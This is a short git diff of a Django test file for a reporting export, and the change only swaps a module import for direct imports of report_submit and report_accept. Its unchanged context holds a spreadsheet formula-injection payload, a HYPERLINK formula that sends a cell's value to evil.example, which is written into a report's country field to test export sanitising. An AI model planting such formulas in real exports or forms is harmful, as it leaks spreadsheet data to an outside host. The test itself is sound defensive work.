@@ -9,7 +9,7 @@ from django.urls import reverse
 from openpyxl import load_workbook
 
 from iop.exports import cell
-from reporting import services
+from reporting.services.reports import report_accept, report_submit
 from tests.reporting.conftest import valid_raw
 
 LINK = '=HYPERLINK("http://evil.example/x?"&A1,"Klicka")'
@@ -27,8 +27,8 @@ def formula_report(side_a, staff):
     report form, parsed, summed into the half-year and the annual compilation."""
     raw = valid_raw(side_a.template, 30, 20, 9, 1)
     raw["country"] = f"{LINK}: 20\n@SUM(1+1): 6"
-    services.report_submit(side_a.report, raw=raw, actor=side_a.user)
-    services.report_accept(side_a.report, actor=staff)
+    report_submit(side_a.report, raw=raw, actor=side_a.user)
+    report_accept(side_a.report, actor=staff)
     return side_a
 
 
